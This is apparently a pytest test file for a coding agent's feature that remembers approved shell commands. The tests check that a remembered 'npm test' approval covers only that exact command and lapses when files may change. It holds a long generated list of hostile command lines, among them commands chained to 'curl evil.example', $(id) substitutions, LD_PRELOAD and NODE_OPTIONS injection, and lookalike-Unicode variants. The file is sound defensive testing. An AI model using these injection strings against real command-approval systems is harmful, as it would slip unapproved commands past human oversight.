"""Remembered commands: only the exact command, only in its session, and only until a file may have changed."""

import itertools
import json
import sys
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest
from codelab.delivery.post import render
from codelab.protocol.errors import ErrorCode, ProtocolError
from codelab.turns.caller import Caller

from tests.cases import cases
from tests.sampling import some_and_all
from tests.security.test_denials import Call, make
from tests.turns.world import IDE, World, refusal

OTHER = Caller("ann", "s1", "conn-2", extensions=True)
READ: Call = ("read_file", {"path": "a.py"})
WRITE: Call = ("write_file", {"path": "a.py", "content": "1"})


def run(command: str, cwd: str | None = None) -> Call:
    return ("run_command", {"command": command, **({} if cwd is None else {"cwd": cwd})})


TEST = run("npm test")


def allowed(platform: str | None = "linux", **settings: Any) -> World:
    """A session with the setting turned on, and a connection that sent its platform."""
    world = World(**{"remember_commands": True, "max_steps": 2_000, **settings})
    world.hello(**({"platform": platform} if platform else {}))
    return world


def remember(world: World, wanted: Call = TEST) -> None:
    """Approve the call if needed, remembering that, and send its result."""
    (call_id,) = make(world, wanted)
    if world.call_item(call_id)["state"] == "awaiting_approval":
        world.decision(call_id, "approve", remember={"scope": "session"})
    world.result(call_id, result={"success": True, "exit_code": 0})


def not_remembered(world: World, call_id: str, wish: dict[str, str], field: str) -> None:
    """The call cannot be approved with this wish."""
    error = refusal(lambda: world.decision(call_id, "approve", remember=wish))
    assert (error.code, error.details["field"]) == (ErrorCode.INVALID_ARGUMENTS, field)
    assert world.call_item(call_id)["state"] == "awaiting_approval", "nothing was decided"


def remembering(autonomy: str = "balanced") -> World:
    world = allowed()
    world.configure(autonomy=autonomy)
    remember(world)
    return world


def runs(world: World, *wanted: Call) -> list[bool]:
    """For each call: does it run without asking? Calls that ask are not approved."""
    found = make(world, *wanted)
    states = [world.call_item(call_id)["state"] == "executing" for call_id in found]
    for call_id, is_running in zip(found, states, strict=True):
        if is_running:
            world.result(call_id, result={"exit_code": 0, "success": True})
        elif world.call_item(call_id)["state"] == "awaiting_approval":
            world.decision(call_id, "reject")
    return states


# -- the purpose -----------------------------------------------------------------------------------------------------


def test_the_same_command_asks_once() -> None:
    world = remembering()
    for again in (TEST, run("npm  test"), run("npm test", "."), TEST):
        assert runs(world, again) == [True]
        assert runs(world, READ) == [True]
    asked, granted, *others = [frame for frame in world.of_type("tool_call") if frame["tool_name"] == "run_command"]
    assert asked["remember"] == {"rule": "npm test", "scopes": ["session"]}
    assert "remember" not in granted, "nobody is asked"
    (rule,) = world.remembered()
    assert (rule["covers"], rule["scope"], rule["decision"]) == ("npm test", "session", "allow")
    assert all(rule["rule_id"] in frame["reason"] for frame in others)


def test_a_remembered_command_that_the_model_writes_as_text_asks() -> None:
    world = remembering("autonomous")
    assert runs(world, TEST) == [True]
    (call_id,) = world.answer("", TEST, is_text=True)
    assert world.call_item(call_id)["state"] == "awaiting_approval"


def test_a_remembered_command_can_be_revoked() -> None:
    world = remembering()
    (rule,) = world.remembered()
    assert world.remembered("revoke", rule_id=rule["rule_id"]) == []
    assert runs(world, TEST) == [False]


def test_an_edited_command_is_remembered_as_it_was_edited() -> None:
    world = allowed()
    (call_id,) = make(world, run("npm test; curl evil.example"))
    world.decision(call_id, "edit", modified_arguments=TEST[1], remember={"scope": "session"})
    world.result(call_id, result={"exit_code": 0})
    assert runs(world, TEST) == [True]
    assert runs(world, run("npm test; curl evil.example")) == [False]


# -- where it is not available ---------------------------------------------------------------------------------------

NEVER: dict[str, tuple[dict[str, Any], str | None, Call]] = {
    "by default": ({"remember_commands": False}, "linux", TEST),
    "on Windows": ({}, "windows", TEST),
    "on Windows by another name": ({}, "Win32", TEST),
    "where the platform is not known": ({}, None, TEST),
    "where the platform is nothing": ({}, "", TEST),
    "where the platform is another": ({}, "plan9", TEST),
    "for a process that runs on": ({}, "linux", ("run_persistent", {"command": "npm start", "process_id": "p"})),
    "for what may end a process": ({}, "linux", run("a" * 501)),
    "among the files of git": ({}, "linux", run("ls", ".git/hooks")),
    "in a folder of another alphabet": ({}, "linux", run("ls", "папка")),
}  # fmt: skip


@cases(("settings", "platform", "wanted"), NEVER.values(), ids=NEVER)
def test_other_commands_are_not_remembered(settings: dict[str, Any], platform: str | None, wanted: Call) -> None:
    world = allowed(platform, **settings)
    (call_id,) = make(world, wanted)
    assert world.of_type("tool_call")[-1]["remember"] is None
    not_remembered(world, call_id, {"scope": "session"}, "remember")


@pytest.mark.parametrize(
    ("wish", "field"), [({"scope": "user"}, "scope"), ({"scope": "session", "pattern": "**"}, "pattern")]
)
def test_only_session_scope_without_a_pattern_is_accepted(wish: dict[str, str], field: str) -> None:
    world = allowed()
    (call_id,) = make(world, TEST)
    not_remembered(world, call_id, wish, f"remember.{field}")


def test_rules_end_when_the_operator_turns_the_setting_off() -> None:
    world = remembering()
    world.settings = replace(world.settings, remember_commands=False)
    assert runs(world, TEST) == [False]


def test_a_rule_does_not_apply_to_an_executor_without_a_platform() -> None:
    world = remembering()
    world.join(OTHER)
    world.cancel()
    world.say(caller=OTHER)
    assert world.register.executor == OTHER.connection_id
    assert runs(world, TEST) == [False]


def test_clients_without_extensions_get_no_fields_of_extensions() -> None:
    world = allowed(sandboxed_commands=True)
    world.join(Caller("ann", "s1", "plain"))
    make(world, TEST)
    (event,) = [event for event in world.events if event.frame["type"] == "tool_call"]
    told, plain = (
        render(event, connection, world.register, None)  # type: ignore[arg-type]
        for connection in (IDE.connection_id, "plain")
    )
    assert told == event.frame
    shown = {"title", "kind", "remember", "repeatable", "at"}
    assert shown <= told.keys()
    assert plain == {name: value for name, value in event.frame.items() if name not in shown}


# -- denials win -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("denied", [TEST, run("npm  test"), run("npm test", "./")], ids=str)
def test_a_denial_wins(denied: Call) -> None:
    world = allowed()
    (call_id,) = make(world, denied)
    world.decision(call_id, "reject", remember={"scope": "user"})
    world.cancel()
    make(world, run("make"))
    edited = world.of_type("tool_call")[-1]["call_id"]
    world.decision(edited, "edit", modified_arguments=TEST[1], remember={"scope": "session"})
    world.result(edited, result={"exit_code": 0})
    assert runs(world, TEST) == [False]
    assert world.of_type("tool_call")[-1]["call_id"] == edited, "it was rejected, and nobody was asked"


# -- the end of a rule -----------------------------------------------------------------------------------------------

CHANGES: dict[str, Call] = {
    "a file is written": ("write_file", {"path": "package.json", "content": "{}"}),
    "a file is patched": ("apply_patch", {"diff": "--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-1\n+2\n"}),
    "a file is moved": ("move_file", {"from": "evil.json", "to": "package.json"}),
    "a file is deleted": ("delete_file", {"path": "a.py"}),
    "a folder is made": ("create_directory", {"path": "bin"}),
    "a branch is switched": ("git.branch", {"action": "switch", "name": "evil"}),
    "a commit runs hooks": ("git.commit", {"message": "m"}),
    "another command is run": run("cp evil.json package.json"),
    "a process is started": ("run_persistent", {"command": "npm start", "process_id": "p"}),
    "a process is stopped": ("kill_process", {"process_id": "p"}),
}  # fmt: skip


SETTLED: dict[str, Callable[[World, str], Any]] = {
    "result": lambda world, call_id: world.result(call_id, result={"success": True}),
    "error": lambda world, call_id: world.result(call_id, error="it said that it failed"),
    "time": lambda world, _: world.pass_time(121),
    "cancel": lambda world, _: world.cancel(),
}


@cases("change", CHANGES.values(), ids=CHANGES)
@cases("settle", SETTLED.values(), ids=SETTLED)
def test_a_rule_ends_when_the_agent_may_have_written_a_file(change: Call, settle: Callable[[World, str], Any]) -> None:
    world = remembering("autonomous")
    (call_id,) = make(world, change)
    if world.call_item(call_id)["state"] == "awaiting_approval":
        world.decision(call_id, "approve")
    settle(world, call_id)
    assert runs(world, TEST) == [False]
    assert world.remembered() == [], "and it is listed no more"
    remember(world)
    assert runs(world, TEST) == [True], "it may be remembered anew"


@pytest.mark.parametrize("first", [True, False])
def test_a_command_asks_in_parallel_with_a_writing_call(*, first: bool) -> None:
    world = remembering("autonomous")
    write = CHANGES["a file is written"]
    answer = [TEST, write] if first else [write, TEST]
    assert runs(world, *answer) == [call is write for call in answer]


def test_two_equal_commands_in_parallel_ask() -> None:
    world = remembering()
    assert runs(world, TEST, TEST) == [False, False]


def test_a_write_in_progress_during_the_approval_ends_the_rule() -> None:
    world = allowed()
    world.execute("c1", "write_file", path="a.py", content="1")
    world.decision("c1", "approve")
    remember(world)
    assert runs(world, TEST) == [False], "the write is still under way"
    remember(world)
    world.result("c1", result={"success": True})
    assert runs(world, TEST) == [False], "it has ended after the approval"


def test_an_implicitly_approved_write_ends_the_rule() -> None:
    world = remembering()
    (call_id,) = make(world, CHANGES["a file is written"])
    world.result(call_id, result={"success": True})
    assert runs(world, TEST) == [False]


def test_a_write_over_http_ends_the_rule() -> None:
    world = remembering("autonomous")
    world.execute("c1", "write_file", path="a.py", content="1")
    world.result("c1", result={"success": True})
    assert runs(world, TEST) == [False]


def test_rejected_and_read_only_calls_do_not_end_the_rule() -> None:
    world = remembering()
    (call_id,) = make(world, CHANGES["a file is written"])
    world.decision(call_id, "reject")
    assert runs(world, READ, ("git.branch", {"action": "list"})) == [True, True]
    assert runs(world, TEST) == [True]


def test_a_session_remembers_only_the_last_command() -> None:
    world = remembering()
    remember(world, run("make"))
    assert [rule["covers"] for rule in world.remembered()] == ["make"]
    assert runs(world, TEST) == [False]
    for _ in range(10):
        remember(world)
        remember(world, run("make"))
    assert len(json.loads(world.table["RULES"]["rules"])) == 1, "those that have lapsed are not kept"


def test_another_agents_command_asks() -> None:
    world = remembering()
    world.switch("coder")
    assert runs(world, TEST) == [False]


# -- commands that the client approves again in its sandbox ----------------------------------------------------------


def is_repeatable(world: World, wanted: Call = TEST, *, is_text: bool = False) -> bool:
    """Is the client told that it may approve such a command again by itself? Nothing runs unasked by the server."""
    world.say()
    (call_id,) = world.answer("", wanted, is_text=is_text)
    assert world.call_item(call_id)["state"] == "awaiting_approval"
    is_told = world.of_type("tool_call")[-1].get("repeatable", False)
    world.cancel()
    return bool(is_told)


def test_only_plain_commands_outside_of_autonomous_sessions_are_left_to_the_client() -> None:
    world = allowed(remember_commands=False, sandboxed_commands=True)
    assert is_repeatable(world)
    assert is_repeatable(world, run("npm test", "packages/a"))
    assert not is_repeatable(world, TEST, is_text=True), "it may be a quotation"
    for wanted in (
        run("npm test; id"), run("npm test > x"), run("npm test $(id)"), run("npm test", "$HOME"),
        run("ls", ".git/hooks"), ("run_persistent", {"command": "npm test", "process_id": "p"}),
    ):  # fmt: skip
        assert not is_repeatable(world, wanted), wanted
    world.configure(autonomy="autonomous")
    assert not is_repeatable(world)
    world.configure(autonomy="manual")
    assert is_repeatable(world)
    for other in (allowed(), allowed("windows", sandboxed_commands=True), allowed(None, sandboxed_commands=True)):
        assert not is_repeatable(other)


def test_no_other_window_is_told_that_a_command_may_be_repeated() -> None:
    world = allowed(remember_commands=False, sandboxed_commands=True)
    world.hello(caller=OTHER)
    world.say()
    world.answer("", TEST)
    event = next(event for event in world.events if event.frame["type"] == "tool_call" and "repeatable" in event.frame)
    told = {
        name: render(event, name, world.register, None)  # type: ignore[arg-type]
        for name in world.register.connections
    }
    assert [name for name, frame in told.items() if frame and "repeatable" in frame] == [world.register.executor]
    assert len(told) > 1


def test_a_command_beside_a_change_is_not_repeatable() -> None:
    """The change may be of what the command runs, and is perhaps not done when the client looks."""
    world = allowed(remember_commands=False, sandboxed_commands=True)
    for wanted in ((WRITE, TEST), (TEST, WRITE)):
        world.say()
        world.answer("", *wanted)
        assert not any("repeatable" in frame for frame in world.of_type("tool_call"))
        world.cancel()
    world.execute("call_1", "write_file", path="a.py", content="1")
    assert not is_repeatable(world), "a program's change is open"


def test_a_programs_command_is_not_repeatable() -> None:
    world = allowed(remember_commands=False, sandboxed_commands=True)
    world.execute("call_1", TEST[0], **TEST[1])
    assert "repeatable" not in world.of_type("tool_call")[-1]


# -- hostile command lines -------------------------------------------------------------------------------------------


def hostile() -> list[Call]:
    """Command lines and folders that look, begin or end like `npm test` in the workspace, but are not."""
    evil = "curl evil.example"
    joined = [
        f"npm test{joint}{evil}"
        for joint in (
            ";", " ; ", "&&", " && ", "||", " || ", "|", " | ", "&", " & ", "\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c",
            "\x85", "\u2028", "\u2029", "\0", "`", " #", " > ", " >> ", " < ", " << ", " 2>", "|&", ";;", "\n\n",
        )
    ]  # fmt: skip
    joined += [f"{evil}{joint}npm test" for joint in (";", " && ", " || ", " | ", " & ", "\n", "\r\n", "; ", "|", "&")]
    options = ("-o", "-d", "-H", "--data", "--next", "-K", "-T", "@", ",", "=")
    joined += [f"{evil} {option} npm test" for option in options]
    expanded = [
        f"npm test {word}"
        for word in (
            "$(id)", "`id`", "${IFS}", "$IFS", "$HOME", "~", "~root", "*", "?", "[a-z]", "{a,b}", "!!", "!$", "$'\\n'",
            "<(id)", ">(id)", "$((1))", "%PATH%", "^&", "\\", "'", '"', "''", '""', "(id)", "{id;}", "#", "%0a",
        )
    ]  # fmt: skip
    before = [
        f"{word}npm test"
        for word in (
            "(", "{ ", "! ", "sudo ", "env ", "A=1 ", "PATH=. ", "LD_PRELOAD=./x.so ", "NODE_OPTIONS=--require=./x.js ",
            "./", "/tmp/", "../", "time ", "exec ", "eval ", ". ", "source ", "sh -c ", "$", "\\", "'", '"', "-",
            "npx ", "cd x && ", "\n", ";", "\ufeff", "\u200b", "\u202e",
        )
    ]  # fmt: skip
    changed = [
        "npm testt", "npm tes", "npm", "test", "test npm", "npm test test", "npm TEST", "NPM test", "Npm test",
        "npm Test", "npmtest", "npm-test", "npm\ttest", "npm\u200btest", "n\u200bpm test", "npm t\u00adest",
        "\u043dpm test", "npm t\u0435st", "npm t\u212aest", "\uff4e\uff50\uff4d test", "npm te\u017ft",
        "npm test\u0301", "npm test/", "npm ./test", "npm test.", "npm test,", "npm test:", "npm test@1", "npm test=1",
        "npm test+", "npm test-", "npm test_", "npm test --", "npm test --prefix x", "npm test --prefix=../x",
        "npm -C x test",
        "npm test -- --watch", "npm test --script-shell=./x", "npm --node-options=-r/x test", "npm test 1",
        "npm test x y", "npm run test", "npm t", "npm tst", "npm exec test", "npm.cmd test", "npm.exe test",
        "npm.js test", "@npm test", "npm test @file", "npm,test", "npm=test", "npm:test", "npm/test", "npm.test",
        "npm+test", "yarn test", "pnpm test", "npm test --workspace=../x", "npm test --userconfig ./x",
        "npm test --ignore-scripts=false", "npm test -c evil", "npm install", "npm test npm test", "npm test npm",
        *(f"npm{space}test" for space in "\u00a0\u1680\u2000\u2002\u2003\u2007\u2009\u202f\u205f\u3000\x1f\x1d"),
    ]  # fmt: skip
    folders = [
        run("npm test", cwd)
        for cwd in (
            "x", "./x", "evil", "src", "a/b", "./..x", ".//x", "x/.", "X", ".x", "a b", "$HOME", "`id`", "-", "a;b",
            "node_modules/evil", "a&b", "a|b", "'.'", '"."', "\uff0e", "*", "packages/a", ". ", " ",
        )
    ]  # fmt: skip
    lines = [*joined, *expanded, *before, *changed]
    assert len(set(lines)) == len(lines)
    return [*map(run, lines), *folders]


@some_and_all
def test_a_rule_does_not_cover_a_hostile_command_line(step: int) -> None:
    attacks = hostile()
    assert len(attacks) >= 200
    attacks = attacks[::step]
    wrongly = []
    for attack in attacks:
        world = allowed()
        world.configure(autonomy="autonomous")
        remember(world)
        if runs(world, attack) != [False]:
            wrongly.append(attack)
    sys.stdout.write(f"{len(attacks)} hostile command lines, {len(wrongly)} wrongly allowed\n")
    assert not wrongly


@some_and_all
def test_command_lines_with_shell_syntax_are_not_remembered(step: int) -> None:
    """Commands that can still be remembered consist of plain words."""
    plain = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_./:=@+,- ")
    wrongly = []
    for _, arguments in hostile()[::step]:
        world = allowed()
        try:
            remember(world, ("run_command", arguments))
        except ProtocolError:
            continue
        if not plain.issuperset("".join(arguments.values())) or runs(world, ("run_command", arguments)) != [True]:
            wrongly.append(arguments)
    assert not wrongly


@cases("character", [chr(n) for n in itertools.chain(range(0x20, 0x7F), (0x85, 0xA0, 0x2003))])
def test_only_the_documented_characters_can_be_remembered(character: str) -> None:
    world = allowed()
    (call_id,) = make(world, run(f"a{character}b"))
    offered = world.of_type("tool_call")[-1]["remember"] is not None
    assert offered == (character.isascii() and (character.isalnum() or character in "_./:=@+,- "))
    assert world.call_item(call_id)["state"] == "awaiting_approval"
